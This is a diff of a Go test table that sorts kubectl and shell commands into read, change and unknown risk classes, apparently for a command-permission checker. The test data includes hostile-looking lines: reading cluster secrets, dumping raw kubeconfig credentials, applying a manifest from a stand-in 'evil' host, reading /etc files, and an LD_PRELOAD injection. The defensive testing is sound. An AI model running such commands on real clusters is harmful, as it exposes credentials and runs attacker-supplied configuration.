@@ -117,14 +117,14 @@ func TestKubectl(t *testing.T) {
 		unknown+r | kubectl get pods -v 10
 		read+r    | kubectl get --raw /api/v1/secrets
 		unknown+r | kubectl config view --raw
-		unknown+r | kubectl config use-context x
+		change+r  | kubectl config use-context x
 		unknown+r | kubectl apply -f https://evil/x.yaml
 		unknown+r | kubectl apply -f /etc/x.yaml
 		unknown+r | kubectl apply -f ../x.yaml
 		change+r  | kubectl apply -k .
 		unknown+r | kubectl get pods -o go-template-file=/etc/x
 		unknown+r | kubectl get pods -o jsonpath-file=/etc/x
-		unknown+r | kubectl cluster-info dump
+		read+dr   | kubectl cluster-info dump
 		unknown+r | LD_PRELOAD=x kubectl get pods
 		read+r    | docker ps
 		read+r    | df -h
